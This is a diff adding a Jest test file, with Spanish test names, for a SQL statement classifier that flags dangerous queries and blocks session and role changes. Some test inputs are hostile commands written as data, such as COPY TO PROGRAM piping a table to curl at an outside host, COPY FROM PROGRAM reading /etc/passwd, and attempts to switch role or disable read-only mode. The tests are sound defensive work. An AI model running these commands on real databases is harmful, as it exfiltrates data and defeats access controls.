@@ -0,0 +1,120 @@
+import { classifyStatements, splitStatements, strongestKind, withLimit } from './sql.js';
+
+const classify = (sql: string) => {
+  const [statement] = classifyStatements(sql);
+  return statement!;
+};
+
+describe('splitStatements', () => {
+  it('corta por ; fuera de cadenas, identificadores, comentarios y cuerpos $$', () => {
+    const sql = `
+      -- comentario; con punto y coma
+      SELECT 'a;b', "c;d" FROM t; /* otro; /* anidado; */ */
+      CREATE FUNCTION f() RETURNS int AS $body$ SELECT 1; $body$ LANGUAGE sql;
+      SELECT E'it\\'s; fine';
+    `;
+    expect(splitStatements(sql)).toEqual([
+      `SELECT 'a;b', "c;d" FROM t`,
+      'CREATE FUNCTION f() RETURNS int AS $body$ SELECT 1; $body$ LANGUAGE sql',
+      "SELECT E'it\\'s; fine'"
+    ]);
+  });
+
+  it('no corta dentro de BEGIN ATOMIC ... END', () => {
+    const sql = 'CREATE FUNCTION g() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT CASE WHEN true THEN 1 END; SELECT 2; END; SELECT 3';
+    expect(splitStatements(sql)).toHaveLength(2);
+  });
+
+  it('rechaza cadenas sin cerrar', () => {
+    expect(() => splitStatements("SELECT 'abc")).toThrow('cadena sin cerrar');
+    expect(() => splitStatements('SELECT $$abc')).toThrow('sin cerrar');
+  });
+});
+
+describe('classifyStatements', () => {
+  it('clasifica lecturas y detecta su LIMIT', () => {
+    expect(classify('SELECT * FROM t')).toMatchObject({ kind: 'read', cursorable: true, hasLimit: false });
+    expect(classify('SELECT * FROM (SELECT * FROM t LIMIT 5) s')).toMatchObject({ hasLimit: false });
+    expect(classify('SELECT * FROM t FETCH FIRST 3 ROWS ONLY')).toMatchObject({ hasLimit: true });
+    expect(classify('(SELECT 1) UNION (SELECT 2)')).toMatchObject({ kind: 'read', command: 'SELECT' });
+    expect(classify('SHOW search_path')).toMatchObject({ kind: 'read', cursorable: false });
+    expect(classify('EXPLAIN SELECT * FROM t')).toMatchObject({ kind: 'read', cursorable: false });
+    expect(classify("SELECT 'DROP TABLE t' AS texto")).toMatchObject({ kind: 'read' });
+  });
+
+  it('clasifica escrituras, DDL y sentencias peligrosas', () => {
+    expect(classify('INSERT INTO t VALUES (1)')).toMatchObject({ kind: 'dml', command: 'INSERT' });
+    expect(classify('UPDATE t SET a = 1 WHERE id = 2')).toMatchObject({ kind: 'dml' });
+    expect(classify('WITH d AS (DELETE FROM t WHERE a = 1 RETURNING *) SELECT * FROM d')).toMatchObject({ kind: 'dml', cursorable: false });
+    expect(classify('SELECT * INTO copia FROM t')).toMatchObject({ kind: 'ddl', command: 'SELECT INTO' });
+    expect(classify('CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql')).toMatchObject({ kind: 'ddl', command: 'CREATE FUNCTION' });
+    expect(classify('ALTER TABLE t ALTER COLUMN a DROP NOT NULL')).toMatchObject({ kind: 'ddl' });
+
+    expect(classify('DROP TABLE IF EXISTS t')).toMatchObject({ kind: 'dangerous', command: 'DROP TABLE' });
+    expect(classify('TRUNCATE t')).toMatchObject({ kind: 'dangerous' });
+    expect(classify('DELETE FROM t')).toMatchObject({ kind: 'dangerous', reason: expect.stringContaining('sin WHERE') });
+    expect(classify('UPDATE t SET a = (SELECT max(b) FROM u WHERE u.id = 1)')).toMatchObject({ kind: 'dangerous' });
+    expect(classify('ALTER TABLE t DROP COLUMN a')).toMatchObject({ kind: 'dangerous' });
+    expect(classify('ALTER SYSTEM SET work_mem = 1')).toMatchObject({ kind: 'dangerous', transactional: false });
+    expect(classify('EXPLAIN ANALYZE DELETE FROM t')).toMatchObject({ kind: 'dangerous', command: 'EXPLAIN ANALYZE DELETE' });
+    expect(classify('EXPLAIN (ANALYZE false) DELETE FROM t')).toMatchObject({ kind: 'read' });
+  });
+
+  it('revisa el WHERE de los UPDATE y DELETE dentro de un WITH', () => {
+    expect(classify('WITH d AS (DELETE FROM t RETURNING *) SELECT 1')).toMatchObject({
+      kind: 'dangerous',
+      command: 'WITH DELETE',
+      reason: expect.stringContaining('sin WHERE')
+    });
+    expect(classify('WITH d AS (DELETE FROM t WHERE a IN (SELECT b FROM u WHERE c)) UPDATE v SET x = 1')).toMatchObject({
+      kind: 'dangerous',
+      command: 'WITH UPDATE'
+    });
+    expect(classify('WITH d AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *), i AS (INSERT INTO u SELECT * FROM d) SELECT 1')).toMatchObject({
+      kind: 'dml',
+      command: 'WITH UPDATE'
+    });
+    expect(classify('WITH s AS (SELECT id FROM t) DELETE FROM t WHERE id IN (SELECT id FROM s)')).toMatchObject({ kind: 'dml' });
+  });
+
+  it('trata COPY con PROGRAM o con un archivo del servidor como peligroso', () => {
+    expect(classify('COPY t FROM STDIN')).toMatchObject({ kind: 'dml', command: 'COPY' });
+    expect(classify('COPY (SELECT * FROM t) TO STDOUT')).toMatchObject({ kind: 'dml' });
+    expect(classify("COPY t TO PROGRAM 'curl -d @- example.com'")).toMatchObject({ kind: 'dangerous', reason: expect.stringContaining('PROGRAM') });
+    expect(classify("COPY t FROM PROGRAM 'cat /etc/passwd'")).toMatchObject({ kind: 'dangerous' });
+    expect(classify("COPY t FROM '/var/lib/postgresql/datos.csv' WITH (FORMAT csv)")).toMatchObject({ kind: 'dangerous', reason: expect.stringContaining('archivo') });
+    expect(classify("COPY (SELECT * FROM t) TO '/tmp/salida.csv'")).toMatchObject({ kind: 'dangerous' });
+  });
+
+  it('marca las sentencias que no admiten transacción', () => {
+    expect(classify('CREATE INDEX CONCURRENTLY i ON t (a)')).toMatchObject({ kind: 'ddl', transactional: false });
+    expect(classify('VACUUM t')).toMatchObject({ transactional: false });
+    expect(classify('REFRESH MATERIALIZED VIEW CONCURRENTLY v')).toMatchObject({ transactional: true });
+  });
+
+  it('rechaza control de transacciones y cambios en la sesión', () => {
+    expect(() => classifyStatements('BEGIN; DELETE FROM t; COMMIT')).toThrow('BEGIN');
+    expect(() => classifyStatements('SET search_path TO otro')).toThrow('SET SEARCH_PATH');
+    expect(() => classifyStatements('SET LOCAL transaction_read_only = off')).toThrow('SET TRANSACTION');
+    expect(classify('SET LOCAL work_mem = \'64MB\'')).toMatchObject({ kind: 'read', command: 'SET LOCAL' });
+    expect(classify("SET LOCAL app.tenant = 'acme'")).toMatchObject({ kind: 'read' });
+    expect(classify("SET LOCAL TIME ZONE 'UTC'")).toMatchObject({ kind: 'read' });
+    expect(() => classifyStatements('SET LOCAL "transaction_read_only" = off; SELECT 1')).toThrow('SET TRANSACTION');
+    expect(() => classifyStatements('SET LOCAL "Default_Transaction_Read_Only" = off')).toThrow('SET TRANSACTION');
+    expect(() => classifyStatements('SET LOCAL ROLE authenticated')).toThrow('SET LOCAL ROLE');
+    expect(() => classifyStatements('SET LOCAL "role" = postgres')).toThrow('SET LOCAL ROLE');
+    expect(() => classifyStatements('SET LOCAL SESSION AUTHORIZATION postgres')).toThrow('SESSION_AUTHORIZATION');
+    expect(() => classifyStatements('SET SESSION AUTHORIZATION postgres')).toThrow('SESSION_AUTHORIZATION');
+    expect(() => classifyStatements("SET LOCAL session_replication_role = 'replica'")).toThrow('no está permitido');
+    expect(() => classifyStatements('  -- sólo un comentario\n')).toThrow('ninguna sentencia');
+  });
+
+  it('combina el tipo de varias sentencias y añade el LIMIT que falte', () => {
+    const statements = classifyStatements('SELECT 1; INSERT INTO t VALUES (1); DROP TABLE u');
+    expect(strongestKind(statements)).toBe('dangerous');
+    expect(strongestKind(statements.slice(0, 1))).toBe('read');
+
+    expect(withLimit(classify('SELECT * FROM t -- todo'), 10)).toBe('SELECT * FROM t LIMIT 10');
+    expect(withLimit(classify('SELECT * FROM t LIMIT 5'), 10)).toBe('SELECT * FROM t LIMIT 5');
+  });
+});